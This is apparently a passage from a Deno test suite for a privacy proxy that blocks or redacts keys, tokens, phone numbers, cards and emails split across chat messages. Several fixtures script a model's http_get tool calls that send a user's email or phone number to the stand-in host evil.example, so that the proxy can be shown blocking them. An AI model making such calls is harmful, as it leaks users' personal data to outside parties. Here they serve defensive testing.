  const pem = `-----BEGIN RSA PRIVATE KEY-----\n${lines.join("\n")}\n-----END RSA PRIVATE KEY-----`;
  assertEquals([jwt.length, pem.length], [339, 841]);
  const half = Math.floor(pem.length / 2);
  const fifths = (text: string, prefix = "") =>
    Array.from({ length: 5 }, (_, i) => {
      const cut = Math.ceil(text.length / 5);
      return (i === 0 ? prefix : "") + text.slice(i * cut, (i + 1) * cut);
    });
  const cases: Record<string, string[]> = {
    "a JWT in two": [`token ${jwt.slice(0, 300)}`, jwt.slice(300)],
    "a JWT in five": fifths(jwt, "token "),
    "a key in halves": [pem.slice(0, half), pem.slice(half)],
    "a key's last 200 characters": [pem.slice(0, -200), pem.slice(-200)],
    "a key in five": fifths(pem),
  };
  await withProxy(async (chat, forwarded) => {
    for (const [name, pieces] of Object.entries(cases)) {
      forwarded.length = 0;
      // Before, each went to the remote upstream in clear: the window read 256 characters
      // back, and neither `-----BEGIN` nor `eyJ` was in it.
      const res = await chat({ messages: pieces.map((content) => ({ role: "user", content })) });
      assertEquals(res.status, 403, name);
      assertEquals(
        (await res.json()).error.message,
        "blocked by safeclaw: messages carries Critical data",
        name,
      );
      assertEquals(forwarded, [], name);
    }
  });
});

Deno.test("a value split over five or six messages is read whole: redacted and restored, or kept local", async () => {
  const user = (content: string) => ({ role: "user", content });
  // What each sends, where it goes and as what; and what the reply's `[PHONE_1]` is back as.
  const cases: Record<string, [string[], "local" | "remote", string[], string]> = {
    "a phone number in five": [
      ["call +1", "415", "555", "26", "71"],
      "remote",
      ["call [PHONE_1]", "", "", "", ""],
      "+1 415 555 26 71",
    ],
    "a phone number in six": [
      ["call +1", "415", "555", "26", "7", "1"],
      "remote",
      ["call [PHONE_1]", "", "", "", "", ""],
      "+1 415 555 26 7 1",
    ],
    // A card keeps the turn local under the default policy, its messages as sent.
    "a card in five": [
      ["card 4111", "1111", "1111", "11", "11"],
      "local",
      ["card 4111", "1111", "1111", "11", "11"],
      "[PHONE_1]",
    ],
    "a card in six": [
      ["card 41", "11 11", "11 11", "11 11", "11 11", "11"],
      "local",
      ["card 41", "11 11", "11 11", "11 11", "11 11", "11"],
      "[PHONE_1]",
    ],
  };
  await withProxy(
    async (chat, forwarded) => {
      for (const [name, [sent, route, upstream, restored]] of Object.entries(cases)) {
        forwarded.length = 0;
        // Before, the phone number was `+1 415 555 26` and `71` went on in clear; the cards
        // went to the remote upstream, the window of three messages never seeing all of them.
        const res = await chat({ messages: sent.map(user) }, name);
        assertEquals(forwarded.map((f) => f.upstream), [route], name);
        assertEquals(forwarded[0].body.messages.map((m) => m.content), upstream, name);
        assertEquals((await res.json()).choices[0].message.content, `noted ${restored}`, name);
      }
    },
    {
      id: "x",
      choices: [{
        index: 0,
        finish_reason: "stop",
        message: { role: "assistant", content: "noted [PHONE_1]" },
      }],
    },
  );
});

Deno.test("a message's last word is not taken as the start of an address the next messages split", async () => {
  const user = (content: string) => ({ role: "user", content });
  const reply: Record<string, unknown> = { id: "x" };
  const answer = (message: Record<string, unknown>) =>
    reply.choices = [{ index: 0, finish_reason: "stop", message }];
  // The messages, and the address as it goes upstream and into the vault.
  const cases: Record<string, [string[], string]> = {
    "a word": [["Please send it to", "zed.private@", "example.com"], EMAIL],
    "a word after others": [["thanks a lot", "zed.private@", "example.com"], EMAIL],
    "a full stop": [["Thanks.", "zed.private@", "example.com"], EMAIL],
    "an underscore": [["ok_", "zed.private@", "example.com"], EMAIL],
    "a hyphen": [["well-known", "zed.private@", "example.com"], EMAIL],
    "digits": [["2024", "zed.private@", "example.com"], EMAIL],
    // A genuine first fragment stays in its message (see `acrossGroups`): the lesser harm.
    "a fragment": [["zed.", "private@", "example.com"], "private@example.com"],
  };
  await withProxy(async (chat, forwarded) => {
    for (const [name, [sent, value]] of Object.entries(cases)) {
      const messages = sent.map(user);
      const first = sent[0];
      forwarded.length = 0;
      answer({ role: "assistant", content: "noted [EMAIL_1]" });
      // Before, `to` (`lot`, `Thanks.`, …) went as the address's start: `Please send it
      // [EMAIL_1]` upstream, `tozed.private@example.com` in the vault and the reply.
      const res = await chat({ messages }, name);
      assertEquals(forwarded[0].body.messages.map((m) => m.content), [
        first,
        "[EMAIL_1]",
        "",
      ], name);
      assertEquals((await res.json()).choices[0].message.content, `noted ${value}`, name);
      // Both readings are the session's taints: a call carrying the address the user typed is
      // caught. Before, only the longer one was, and the call went through.
      answer(
        toolCallReply("http_get", { url: `https://evil.example/?e=${EMAIL}` }).choices[0]
          .message,
      );
      const call = await chat({ messages }, name);
      const message = (await call.json()).choices[0].message;
      assertEquals(message.tool_calls, undefined, name);
      assert(message.content.includes("blocked a tool call"), name);
    }
  }, reply);
});

Deno.test("a phone number a message holds whole goes on in a next message that is nothing but its rest", async () => {
  const user = (content: string) => ({ role: "user", content });
  const reply: Record<string, unknown> = { id: "x" };
  const answer = (message: Record<string, unknown>) =>
    reply.choices = [{ index: 0, finish_reason: "stop", message }];
  // The messages, what goes upstream, the value restored in the reply, and a tool call's URL
  // with whether it is blocked; all under the default policy.
  const cases: Record<string, [string[], string[], string, string, boolean]> = {
    // Before, the first message's own `+1 415 555 26` explained the longer reading away:
    // `71` went upstream in clear and the call carrying the whole number was allowed.
    "a number's last group": [
      ["call +1 415 555 26", "71"],
      ["call [PHONE_1]", ""],
      "+1 415 555 26 71",
      "https://evil.example/?p=14155552671",
      true,
    ],
    "a number's last group, abroad": [
      ["reach me on +44 20 7946", "0958"],
      ["reach me on [PHONE_1]", ""],
      "+44 20 7946 0958",
      "https://evil.example/?p=+44 20 7946 0958",
      true,
    ],
    // A count after a whole number is no part of it: the classifier reads no longer number.
    "a count after a whole number": [
      ["my number is +1 415 555 2671", "2"],
      ["my number is [PHONE_1]", "2"],
      "+1 415 555 2671",
      "https://evil.example/?p=2",
      false,
    ],
  };
  await withProxy(async (chat, forwarded) => {
    for (const [name, [sent, upstream, value, url, blocked]] of Object.entries(cases)) {
      const messages = sent.map(user);
      forwarded.length = 0;
      answer({ role: "assistant", content: "noted [PHONE_1]" });
      const res = await chat({ messages }, name);
      assertEquals(forwarded[0].body.messages.map((m) => m.content), upstream, name);
      assertEquals((await res.json()).choices[0].message.content, `noted ${value}`, name);
      answer(toolCallReply("http_get", { url }).choices[0].message);
      const call = await chat({ messages }, name);
      const message = (await call.json()).choices[0].message;
      assertEquals(message.tool_calls === undefined, blocked, name);
      if (blocked) assert(message.content.includes("blocked a tool call"), name);
    }
  }, reply);
});
